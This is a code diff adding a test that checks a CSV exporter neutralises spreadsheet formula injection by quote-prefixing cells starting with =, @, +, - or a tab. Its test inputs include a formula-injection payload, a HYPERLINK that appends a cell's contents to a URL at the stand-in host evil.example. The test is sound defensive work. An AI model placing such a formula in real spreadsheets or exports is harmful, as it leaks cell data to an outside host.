@@ -101,6 +101,29 @@ describe('partition batch', () => {
   });
 });
 
+describe('CSV export files against formula injection', () => {
+  it('neutralises text cells that a spreadsheet would evaluate, as the reports do, and leaves numbers and times alone', async () => {
+    const b = batch('csv'); // one file per event_type: the formulas go in event_id
+    add(b, 1, { event_id: '=HYPERLINK("http://evil.example/?"&A1,"click")', event_type: 't', amount_minor: -1500n, occurred_at: day1 });
+    add(b, 2, { event_id: '@SUM(A1)', event_type: 't', amount_minor: 7n, occurred_at: day1 });
+    add(b, 3, { event_id: '+cmd', event_type: 't', amount_minor: null, occurred_at: day1 });
+    add(b, 4, { event_id: '-x', event_type: 't', amount_minor: null, occurred_at: day1 });
+    add(b, 5, { event_id: '\tlead', event_type: 't', amount_minor: null, occurred_at: day1 });
+    add(b, 6, { event_id: 'plain-text', event_type: 't', amount_minor: -2n, occurred_at: day1 });
+    const text = Buffer.from(await b.output.seal()[0]!.encode()).toString('utf8');
+    expect(text.split('\n')).toEqual([
+      'event_id,event_type,amount_minor,occurred_at',
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",t,-1500,2026-10-01T12:00:00.000000Z`,
+      `"'@SUM(A1)",t,7,2026-10-01T12:00:00.000000Z`,
+      `"'+cmd",t,,2026-10-01T12:00:00.000000Z`,
+      `"'-x",t,,2026-10-01T12:00:00.000000Z`,
+      `"'\tlead",t,,2026-10-01T12:00:00.000000Z`,
+      'plain-text,t,-2,2026-10-01T12:00:00.000000Z',
+      '',
+    ]);
+  });
+});
+
 describe('dedupe cache', () => {
   it('remembers at least the last half of its capacity and forgets keys beyond it', () => {
     const c = new DedupeCache(4, undefined);
